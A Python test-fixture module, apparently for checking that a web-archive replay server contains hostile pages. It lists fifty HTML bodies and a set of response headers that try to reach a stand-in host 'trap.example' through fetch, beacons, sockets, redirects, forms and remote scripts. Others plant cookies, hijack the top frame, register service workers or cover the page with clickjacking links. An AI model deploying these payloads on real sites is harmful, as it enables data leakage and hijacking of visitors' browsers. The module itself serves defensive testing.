"""Fifty pages that do what they can to get out, be remembered, or touch what is not theirs.

TRAP stands for the origin of a server that must never hear of them, HOME for the replay server's
own, SELF for the page's own host.
"""
# ruff: noqa: E501 - a page is a line

from typing import Final

TRAP: Final = "http://trap.example"
COVER: Final = "style='position:fixed;inset:0;display:block;width:100%;height:100%'"

BODIES: Final[tuple[str, ...]] = (
    "<script>navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(()=>0)</script>",
    "<script>navigator.serviceWorker && navigator.serviceWorker.register('/sw.js',{scope:'/'}).catch(()=>0)</script>",
    "<script>fetch('/admin').catch(()=>0)</script>",
    "<script>fetch('HOME/admin').catch(()=>0)</script>",
    "<script>fetch('HOME/?q=a',{mode:'no-cors',credentials:'include'}).catch(()=>0)</script>",
    "<script>fetch('TRAP/a').catch(()=>0)</script>",
    "<script>fetch('TRAP/a',{mode:'no-cors',method:'POST',body:'x',keepalive:true}).catch(()=>0)</script>",
    "<script>var x=new XMLHttpRequest();x.open('GET','TRAP/x');x.send()</script>",
    "<script>navigator.sendBeacon('TRAP/beacon','x')</script>",
    "<script>addEventListener('pagehide',()=>navigator.sendBeacon('TRAP/gone','x'))</script>",
    "<script>new WebSocket('ws://trap.example/ws')</script>",
    "<script>new EventSource('TRAP/events')</script>",
    "<script>document.cookie='a=b';document.cookie='a=b;domain=localhost';document.cookie='a=b;path=/'</script>",
    "<script>localStorage.a='b';sessionStorage.a='b';indexedDB.open('a')</script>",
    "<script>try{parent.localStorage.a='b'}catch(e){}</script>",
    "<script>try{top.document.title='mine';top.document.body.innerHTML=''}catch(e){}</script>",
    "<script>try{top.location='TRAP/top'}catch(e){}</script>",
    "<script>try{parent.location.replace('TRAP/parent')}catch(e){}</script>",
    "<script>location='TRAP/location'</script>",
    "<script>location.replace('TRAP/replace')</script>",
    "<script>open('TRAP/popup')</script>",
    "<script>onclick=()=>{open('TRAP/popup');try{top.location='TRAP/clicked'}catch(e){}}</script>",
    f"<a href='TRAP/top' target='_top' {COVER}>go</a>",
    f"<a href='TRAP/blank' target='_blank' {COVER}>go</a>",
    f"<a href='TRAP/ping-target' ping='TRAP/ping' {COVER}>go</a>",
    f"<a href='SELF/a' ping='TRAP/ping' {COVER}>go</a>",
    f"<form action='TRAP/form' method='post'><button {COVER}>go</button></form>",
    f"<form action='TRAP/form' target='_top'><button {COVER}>go</button></form>",
    "<form id='f' action='TRAP/auto'></form><script>f.submit()</script>",
    f"<form action='/x'><button formaction='TRAP/formaction' {COVER}>go</button></form>",
    "<base href='TRAP/'><img src='a.png'><script src='a.js'></script>",
    "<script>document.head.innerHTML+=`<base href='TRAP/'>`;document.body.append(Object.assign(new Image,{src:'x.png'}))</script>",
    "<meta http-equiv='refresh' content='0;url=TRAP/refresh'>",
    "<meta http-equiv=refresh content=0;TRAP/refresh>",
    "<script>document.write(`<meta http-equiv='refresh' content='0;url=TRAP/written'>`)</script>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src * 'unsafe-inline'\"><img src='TRAP/i.png'>",
    "<img src='TRAP/a.png' srcset='TRAP/b.png 2x, //trap.example/c.png 3x'><picture><source srcset='TRAP/d.png'></picture>",
    "<img src='//trap.example/a.png'><img src='\\\\trap.example\\a.png'><img src='ht\ntp://trap.example/b.png'>",
    "<link rel='stylesheet' href='TRAP/a.css'><link rel='icon' href='TRAP/i.ico'>",
    "<link rel='preconnect' href='TRAP'><link rel='dns-prefetch' href='TRAP'><link rel='preload' as='image' href='TRAP/p.png'><link rel='prefetch' href='TRAP/f'><link rel='modulepreload' href='TRAP/m.js'>",
    '<script type=\'speculationrules\'>{"prefetch":[{"source":"list","urls":["TRAP/s"]}],"prerender":[{"source":"list","urls":["TRAP/r"]}]}</script>',
    "<script type='module'>import 'TRAP/m.js'</script><script>import('TRAP/d.js').catch(()=>0)</script>",
    "<script src='TRAP/a.js'></script><script async src='//trap.example/b.js'></script>",
    "<style>@import 'TRAP/a.css';@import url(TRAP/b.css);body{background:url('TRAP/c.png')}@font-face{font-family:x;src:url(TRAP/f.woff)}p{font-family:x}</style><p>a",
    "<iframe src='TRAP/frame'></iframe><iframe srcdoc=\"<img src='TRAP/d.png'>\"></iframe><iframe src='HOME/'></iframe>",
    "<object data='TRAP/o'></object><embed src='TRAP/e'><video src='TRAP/v' poster='TRAP/p'></video><audio src='TRAP/a'></audio>",
    "<svg><image href='TRAP/i.svg'/><use xlink:href='TRAP/u.svg#a'/></svg>",
    "<script>try{new Worker('TRAP/w.js')}catch(e){};try{new SharedWorker(`data:text/javascript,fetch('TRAP/sw')`)}catch(e){};new Worker(URL.createObjectURL(new Blob([`fetch('TRAP/blob')`])))</script>",
    "<script>for(let i=0;i<9;i++)parent.postMessage('/20200101000000/TRAP/',`*`);parent.postMessage('TRAP/','*');parent.postMessage('//trap.example/','*')</script>",
    "<script>history.pushState(0,'','/admin');caches.open('a').then(c=>c.add('TRAP/c')).catch(()=>0);document.domain='localhost'</script>",
)

HEADERS: Final = (
    "Set-Cookie: stolen=1; Domain=localhost; Path=/",
    "Refresh: 0; url=TRAP/refresh",
    'Clear-Site-Data: "*"',
    "Service-Worker-Allowed: /",
    "Content-Security-Policy: default-src * 'unsafe-inline'; report-uri TRAP/csp",
    "Content-Security-Policy-Report-Only: default-src 'none'; report-uri TRAP/csp",
    'Report-To: {"group":"a","max_age":9,"endpoints":[{"url":"TRAP/report"}]}',
    'NEL: {"report_to":"a","max_age":9,"success_fraction":1}',
    "Link: <TRAP/early.css>; rel=preload; as=style, <TRAP>; rel=preconnect",
    "Strict-Transport-Security: max-age=31536000; includeSubDomains; preload",
    "Public-Key-Pins: max-age=1",
    "X-Frame-Options: DENY",
    "Cross-Origin-Opener-Policy: same-origin",
    "Cross-Origin-Embedder-Policy: require-corp",
    "Cross-Origin-Resource-Policy: same-site",
    "Permissions-Policy: camera=*",
    "Access-Control-Allow-Credentials: true",
    'Alt-Svc: h3=":443"; ma=9',
    "SourceMap: TRAP/map",
    'Speculation-Rules: "TRAP/rules.json"',
    "Accept-CH: Sec-CH-UA-Model",
    "WWW-Authenticate: Basic realm=a",
)


def filled(text: str, home: str) -> str:
    """Write the names out."""
    return text.replace("TRAP", TRAP).replace("HOME", home).replace("SELF", "https://bad.example")
